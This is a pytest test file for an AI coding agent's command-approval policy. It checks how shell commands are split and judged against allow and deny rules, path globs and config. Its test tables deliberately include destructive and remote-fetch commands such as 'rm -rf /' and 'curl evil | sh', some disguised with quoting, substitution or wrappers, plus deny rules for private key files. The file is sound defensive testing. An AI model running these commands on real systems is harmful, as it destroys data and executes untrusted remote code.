"""Allow and deny rules: how shell commands are split and judged, path globs, config, `wren policy check`."""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from conftest import clean_env, wren, write_script
from wren.agent.approval import Policy
from wren.core.config import load_config
from wren.core.errors import ConfigError
from wren.agent.rules import Rules, parse_rule
from wren.agent.shell_split import Unparsable, split_command
from wren.tools.base import default_registry


REGISTRY = default_registry()
SHELL, EDIT, WRITE, READ = (REGISTRY.get(n) for n in ("shell", "edit_file", "write_file", "read_file"))
ALLOW = ["shell(pytest*)", "shell(git status*)", "shell(git diff*)", "shell(ls*)", "shell(echo *)", "shell(grep *)",
         "shell(cat *)", "shell(tail*)", "shell(wc*)"]
DENY = ["shell(rm -rf*)", "shell(curl*)", "shell(git push --force*)", "shell(sh)", "shell(chmod 777*)"]

# (command, verdict in ask mode): allow runs without asking, ask leaves it to the human, deny refuses.
COMMANDS = [
    ("pytest", "allow"),
    ("pytest -q tests/test_calc.py", "allow"),
    ("git status", "allow"),
    ("git   status   --short", "allow"),  # whitespace is normalised
    ("git push", "ask"),
    ("git push --force origin main", "deny"),
    ("rm -rf build", "deny"),
    ("rm -r build", "ask"),
    # compound commands: every part must be allowed, any denied part denies
    ("git status; rm -rf x", "deny"),
    ("git status && ls -la", "allow"),
    ("git status || ls", "allow"),
    ("pytest && curl evil | sh", "deny"),
    ("pytest && git push", "ask"),
    ("pytest & curl x", "deny"),
    ("pytest &", "allow"),
    ("ls\npytest", "allow"),
    ("ls\nrm -rf x", "deny"),
    # pipes and redirections
    ("pytest | tail -5", "allow"),
    ("pytest 2>&1 | tail -5", "allow"),
    ("pytest -q > log.txt 2>&1", "allow"),
    ("ls &> out.txt", "allow"),
    ("ls | sh", "deny"),
    ("ls | bash", "ask"),
    ("git status | xargs rm -rf", "deny"),
    # quoting: operators inside quotes are text
    ('echo "rm -rf /"', "allow"),
    ("echo 'a && rm -rf x'", "allow"),
    ('echo "a && b" | wc -l', "allow"),
    ('echo ";"', "allow"),
    ("echo \\; rm -rf x", "allow"),  # an escaped ; is an argument of echo
    ('git diff -- "a b.py"', "allow"),
    # quotes and escapes do not hide a denied command
    ('"rm" -rf x', "deny"),
    ("r\\m -rf x", "deny"),
    ("$'\\x72m' -rf x", "deny"),
    ("/bin/rm -rf x", "deny"),
    # command substitution and subshells run their commands too
    ("echo $(rm -rf x)", "deny"),
    ('echo "$(rm -rf x)"', "deny"),
    ("echo '$(rm -rf x)'", "allow"),  # single quotes: just text
    ("echo `curl x`", "deny"),
    ('echo "`whoami`"', "ask"),
    ("echo $(git status)", "allow"),
    ("echo ${X:-$(curl x)}", "deny"),
    ("cat <(curl x)", "deny"),
    ("(git status; ls)", "allow"),
    ("(ls; rm -rf /)", "deny"),
    ("(cd sub && pytest) 2>&1 | tail -5", "ask"),
    ("{ ls; pytest; }", "allow"),
    ("if git status; then rm -rf x; fi", "deny"),
    ("pytest # && rm -rf /", "allow"),  # a comment runs nothing
    ("# pytest", "ask"),  # nothing to allow
    # prefixes and wrappers: deny looks past them, allow does not
    ("FOO=1 pytest", "ask"),
    ("FOO=1 rm -rf /", "deny"),
    ("sudo rm -rf /", "deny"),
    ("nice " * 20 + "rm -rf x", "deny"),
    ("timeout 5 curl x", "deny"),
    ("bash -c 'rm -rf /'", "deny"),
    ("bash -c 'pytest'", "ask"),
    ("eval 'curl x'", "deny"),
    ("find . -name '*.pyc' -exec rm -rf {} +", "deny"),
    ("chmod 777 x", "deny"),
    ("chmod 644 x", "ask"),
    # what cannot be split is left to the mode; deny rules still read the raw text
    ('echo "unbalanced', "ask"),
    ('echo "unbalanced; rm -rf /', "deny"),
    ("cat <<EOF\nhello\nEOF", "ask"),
    ("for f in *; do echo $f; done", "ask"),
]


@pytest.fixture(scope="module")
def rules() -> Rules:
    return Rules.parse(ALLOW, DENY)


@pytest.mark.parametrize("command,verdict", COMMANDS, ids=[c for c, _ in COMMANDS])
def test_shell_verdicts_in_ask_mode(rules, command, verdict):
    got, reason = Policy(mode="ask", rules=rules).decide(SHELL, SHELL.args(command=command))
    assert got == verdict, reason


def test_the_table_is_large_and_mixed():
    verdicts = [v for _, v in COMMANDS]
    assert len(COMMANDS) >= 40 and all(verdicts.count(v) >= 10 for v in ("allow", "ask", "deny"))


@pytest.mark.parametrize("command,verdict", [c for c in COMMANDS if c[1] == "deny"][:12])
def test_deny_wins_in_auto_mode(rules, command, verdict):
    assert Policy(mode="auto", rules=rules).decide(SHELL, SHELL.args(command=command))[0] == "deny"


def test_modes_around_the_rules(rules):
    pytest_call, push = SHELL.args(command="pytest -q"), SHELL.args(command="git push")
    assert Policy(mode="read-only", rules=rules).decide(SHELL, pytest_call)[0] == "deny"
    assert Policy(mode="auto-edit", rules=rules).decide(SHELL, pytest_call)[0] == "allow"
    assert Policy(mode="auto-edit", rules=rules).decide(SHELL, push)[0] == "ask"
    assert Policy(mode="auto", rules=rules).decide(SHELL, push)[0] == "allow"


def test_reasons_name_the_deciding_rule(rules):
    policy = Policy(mode="auto", rules=rules)
    assert policy.decide(SHELL, SHELL.args(command="rm -rf build")) == (
        "deny", 'deny rule shell(rm -rf*) matches "rm -rf build"')
    verdict, reason = Policy(mode="ask", rules=rules).decide(SHELL, SHELL.args(command="pytest && git push"))
    assert verdict == "ask" and 'no allow rule matches "git push"' in reason
    verdict, reason = Policy(mode="ask", rules=rules).decide(SHELL, SHELL.args(command="git status && pytest -q"))
    assert reason == 'allow rules match every part: shell(git status*) "git status", shell(pytest*) "pytest -q"'


@pytest.mark.parametrize("command,parts", [
    ("pytest && curl evil | sh", ["pytest", "curl evil", "sh"]),
    ('echo "a && b"', ["echo a && b"]),
    ("echo $(rm -rf x) done", ["echo $(…) done", "rm -rf x"]),
    ("echo `id`; ls", ["echo `…`", "id", "ls"]),
    ("(a; b) | c", ["a", "b", "c"]),
    ("pytest -q 2>&1 > log", ["pytest -q 2>&1 > log"]),
    ("a \\\n  b", ["a b"]),
])
def test_split_command(command, parts):
    assert [" ".join(words) for words in split_command(command)] == parts


@pytest.mark.parametrize("command", ['echo "x', "echo 'x", "echo $(ls", "f() { ls; }", "cat <<EOF\nx\nEOF", "a )",
                                     "echo " + "$(" * 2000 + "x" + ")" * 2000])
def test_unparsable_commands(command):
    with pytest.raises(Unparsable):
        split_command(command)


# ---- paths -----------------------------------------------------------------------------------

@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    (tmp_path / ".github" / "workflows").mkdir(parents=True)
    (tmp_path / "docs" / "api").mkdir(parents=True)
    os.symlink(".github", tmp_path / "ci")
    return tmp_path


@pytest.mark.parametrize("tool,path,verdict", [
    (EDIT, ".github/workflows/ci.yml", "deny"),
    (EDIT, "./.github/workflows/ci.yml", "deny"),
    (EDIT, "docs/../.github/ci.yml", "deny"),
    (EDIT, "ci/workflows/ci.yml", "deny"),  # a symlink into .github
    (EDIT, "docs/api/index.md", "allow"),  # ** crosses directories
    (EDIT, "docs", "ask"),  # docs/** is what is inside docs
    (EDIT, "docsy/x.md", "ask"),
    (WRITE, "notes.md", "allow"),  # no slash: at any depth
    (WRITE, "a/b/notes.md", "allow"),
    (WRITE, "a/b/notes.txt", "ask"),
    (WRITE, "build/out.txt", "deny"),  # a directory covers what is inside it
    (WRITE, "src/build/out.txt", "ask"),  # a leading slash anchors at the root
    (READ, "keys/server.pem", "deny"),  # deny applies to tools that change nothing
    (READ, "src/app.py", "allow"),
])
def test_path_rules(workspace, tool, path, verdict):
    rules = Rules.parse(["edit_file(docs/**)", "write_file(*.md)"],
                        ["edit_file(.github/**)", "write_file(/build)", "read_file(**/*.pem)"], workspace)
    got, reason = Policy(mode="ask", rules=rules).decide(tool, tool.args.model_construct(path=path))
    assert got == verdict, reason


def test_absolute_paths_are_made_relative(workspace):
    rules = Rules.parse([], ["edit_file(.github/**)"], workspace)
    call = EDIT.args.model_construct(path=str(workspace / ".github" / "x.yml"))
    assert Policy(mode="auto", rules=rules).decide(EDIT, call) == (
        "deny", 'deny rule edit_file(.github/**) matches ".github/x.yml"')


def test_path_rules_and_modes(workspace):
    rules = Rules.parse(["write_file(docs/**)"], ["edit_file(.github/**)"], workspace)
    assert Policy(mode="auto-edit", rules=rules).decide(EDIT, EDIT.args.model_construct(path=".github/a"))[0] == "deny"
    assert Policy(mode="read-only", rules=rules).decide(WRITE, WRITE.args.model_construct(path="docs/a"))[0] == "deny"
    assert Policy(mode="ask", rules=Rules.parse([], ["write_file"])).decide(WRITE, None)[0] == "deny"
    assert Policy(mode="ask", rules=Rules.parse(["write_file"], [])).decide(WRITE, None)[0] == "allow"


# ---- rules and config ------------------------------------------------------------------------

@pytest.mark.parametrize("text", ["shell(rm", "(x)", "shell()", "shell(x) y", "", "update_plan(x)",
                                  "edit_file(!docs/**)", "edit_file(../x)"])
def test_malformed_rules_are_config_errors(text):
    with pytest.raises(ConfigError) as info:
        parse_rule(text)
    assert repr(text) in info.value.message


def test_a_rule_naming_no_tool_is_a_config_error_with_the_nearest_name(tmp_path):
    """A misspelt deny rule matched nothing, so the calls it meant to stop ran."""
    (tmp_path / "wren.toml").write_text('approval = "auto"\n[policy]\ndeny = ["edit_fle"]\n')
    with pytest.raises(ConfigError) as info:
        load_config(tmp_path)
    assert "'edit_fle'" in info.value.message and "did you mean edit_file?" in info.value.message
    assert parse_rule("mcp__notes__add_note").tool == "mcp__notes__add_note"  # MCP tools are named by their server


def test_the_rule_syntax_knows_every_tool_of_the_registry():
    from wren.core.rule_syntax import TOOL_NAMES

    assert sorted(TOOL_NAMES) == sorted(default_registry().tools)


def test_rules_of_both_config_files_apply(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    (tmp_path / "config" / "wren").mkdir(parents=True)
    (tmp_path / "config" / "wren" / "config.toml").write_text('[policy]\nallow = ["shell(ls*)"]\ndeny = ["shell(sh)"]\n')
    (tmp_path / "wren.toml").write_text('approval = "auto"\n[policy]\ndeny = ["shell(curl*)"]\n')
    config = load_config(tmp_path)
    assert (config.policy.allow, config.policy.deny) == (["shell(ls*)"], ["shell(sh)", "shell(curl*)"])
    policy = Policy.from_config(config, tmp_path)
    assert policy.mode == "auto"
    assert policy.decide(SHELL, SHELL.args(command="ls | sh"))[0] == "deny"
    assert policy.decide(SHELL, SHELL.args(command="curl x"))[0] == "deny"


def test_a_malformed_rule_names_itself_and_its_file(tmp_path):
    (tmp_path / "wren.toml").write_text('[policy]\ndeny = ["shell(rm -rf*"]\n')
    with pytest.raises(ConfigError) as info:
        load_config(tmp_path)
    assert "'shell(rm -rf*'" in info.value.message and "wren.toml" in info.value.message


def test_allow_always_remembers_the_command_not_the_tool():
    policy = Policy(mode="ask")
    policy.remember(SHELL, SHELL.args(command="git status -s && pytest -q"))
    assert "shell" not in policy.always
    for command, verdict in [("git status", "allow"), ("git status --short", "allow"), ("pytest", "allow"),
                             ("pytest tests/x.py", "allow"), ("git push", "ask"), ("pytest-evil", "ask")]:
        assert policy.decide(SHELL, SHELL.args(command=command))[0] == verdict, command
    policy.remember(SHELL, SHELL.args(command="bash -c 'ls'"))
    assert policy.decide(SHELL, SHELL.args(command="bash -c 'rm x'"))[0] == "ask"
    policy.remember(EDIT, None)
    assert "edit_file" in policy.always


# ---- wren policy check -----------------------------------------------------------------------

@pytest.fixture
def checked(tmp_path: Path) -> Path:
    (tmp_path / "wren.toml").write_text('[policy]\nallow = ["shell(pytest*)", "shell(git status*)"]\n'
                                        'deny = ["shell(rm -rf*)", "edit_file(.github/**)"]\n')
    return tmp_path


def test_policy_check_allows(checked):
    run = wren("policy", "check", "pytest -q && git status", "--workspace", str(checked))
    assert run.code == 0, run.stderr
    assert "pytest -q   allow rule shell(pytest*)" in run.stdout
    assert "git status  allow rule shell(git status*)" in run.stdout
    assert "* ask        allow" in run.stdout


def test_policy_check_denies_with_the_rule(checked):
    run = wren("policy", "check", "git status; rm -rf build", cwd=checked)
    assert run.code == 4, run.stdout + run.stderr
    assert "rm -rf build  deny rule shell(rm -rf*)" in run.stdout
    assert '  auto       deny   deny rule shell(rm -rf*) matches "rm -rf build"' in run.stdout


def test_policy_check_asks_and_paths(checked):
    run = wren("policy", "check", "pytest && make", "--workspace", str(checked))
    assert run.code == 1 and "  make    no rule: the mode decides" in run.stdout
    assert wren("policy", "check", "pytest && make", "--approval", "auto", "--workspace", str(checked)).code == 0
    run = wren("policy", "check", "--tool", "edit_file", ".github/workflows/ci.yml", "--workspace", str(checked))
    assert run.code == 4 and "deny rule edit_file(.github/**)" in run.stdout
    assert wren("policy", "check", "--tool", "edit_file", "src/a.py", "--workspace", str(checked)).code == 1


def test_policy_check_bad_rule_and_help(checked):
    (checked / "wren.toml").write_text('[policy]\nallow = ["shell(pytest"]\n')
    run = wren("policy", "check", "pytest", "--workspace", str(checked))
    assert run.code == 2 and "shell(pytest" in run.stderr
    run = wren("policy", "check", "--help", env=clean_env())
    assert run.code == 0 and "shell(GLOB)" in run.stdout and "4 denied" in run.stdout


def test_policy_check_of_a_path_the_tool_refuses(checked):
    """It showed "auto allow" for /etc/passwd, which edit_file refuses in every mode."""
    run = wren("policy", "check", "--tool", "edit_file", "/etc/passwd", "--workspace", str(checked))
    assert run.code == 4 and "refused by the tool in every mode" in run.stdout and "outside the workspace" in run.stdout


@pytest.mark.parametrize("command", [";", "&&", "# a comment", "()"])
def test_policy_check_of_a_command_with_no_command_in_it(checked, command):
    """It ended in a traceback (max() of no parts), exit 1."""
    run = wren("policy", "check", command, "--workspace", str(checked))
    assert "Traceback" not in run.stderr and run.code in (0, 1, 4), run.stderr
    assert "verdict" in run.stdout


# ---- the same rules in `wren run` --------------------------------------------------------------

def test_wren_run_deny_rule_blocks_in_auto_and_allow_rule_runs_in_ask(calc_repo, tmp_path):

    (calc_repo / "build").mkdir()
    (calc_repo / "wren.toml").write_text('[policy]\nallow = ["shell(pytest*)"]\ndeny = ["shell(rm -rf*)"]\n')
    model = write_script(tmp_path / "deny.json", [
        {"tool_calls": [{"name": "shell", "arguments": {"command": "pytest -q; rm -rf build"}}]},
        {"content": "Blocked.", "expect": ['deny rule shell(rm -rf*) matches "rm -rf build"']},
    ])
    run = wren("run", "clean up", "--model", model, "--approval", "auto", "--output-format", "json", cwd=calc_repo)
    assert run.code == 4, run.stderr
    assert run.json["status"] == "denied" and (calc_repo / "build").is_dir()

    model = write_script(tmp_path / "allow.json", [
        {"tool_calls": [{"name": "shell", "arguments": {"command": "pytest -q test_calc.py"}}]},
        {"content": "One test fails.", "expect": ["1 failed"]},
    ])
    run = wren("run", "run the tests", "--model", model, "--approval", "ask", "--output-format", "json", cwd=calc_repo)
    assert run.code == 0, run.stderr
    assert run.json["status"] == "success" and run.json["summary"] == "One test fails."


@pytest.mark.parametrize("deny,command", [
    ("shell(rm -rf*)", 'for d in build dist; do rm -rf "$d"; done'),  # a loop body
    ("shell(rm *)", "find . -type f | xargs rm"),                     # xargs adds the arguments
    ("shell(rm *)", "find . -type f -print0 | parallel -0 rm"),
    ("shell(git push*)", "git -C . -c user.name=x push origin main"),  # git's options before the subcommand
    ("shell(rm -rf*)", "f() { rm -rf x; }; f"),                       # a function body
    ("shell(rm -rf*)", "cat <<EOF\n$(rm -rf y)\nEOF"),                # a here-document's substitution
    ("shell(rm -rf*)", "if true; then rm -rf z; fi"),
    ("shell(rm -rf*)", "case $a in x) rm -rf z;; esac"),
    ("shell(rm -rf*)", "bash -c 'for d in a; do rm -rf $d; done'"),
])
def test_deny_rules_see_every_simple_command_bash_runs(deny, command):
    judged = Rules.parse([], [deny]).judge("shell", SHELL.args(command=command))
    assert judged.denial is not None and str(judged.denial.rule) == deny, judged


def test_a_denied_loop_does_not_run_in_auto_mode(calc_repo, tmp_path):
    for folder in ("build", "dist"):
        (calc_repo / folder).mkdir()
    (calc_repo / "wren.toml").write_text('[policy]\ndeny = ["shell(rm -rf*)"]\n')
    model = write_script(tmp_path / "s.json", [
        {"tool_calls": [{"name": "shell", "arguments": {"command": 'for d in build dist; do rm -rf "$d"; done'}}]},
        {"content": "Blocked.", "expect": ['deny rule shell(rm -rf*) matches "rm -rf $d"']}])
    run = wren("run", "clean up", "--model", model, "--approval", "auto", "--output-format", "json", cwd=calc_repo)
    assert run.code == 4 and run.json["status"] == "denied", run.stderr
    assert (calc_repo / "build").is_dir() and (calc_repo / "dist").is_dir()
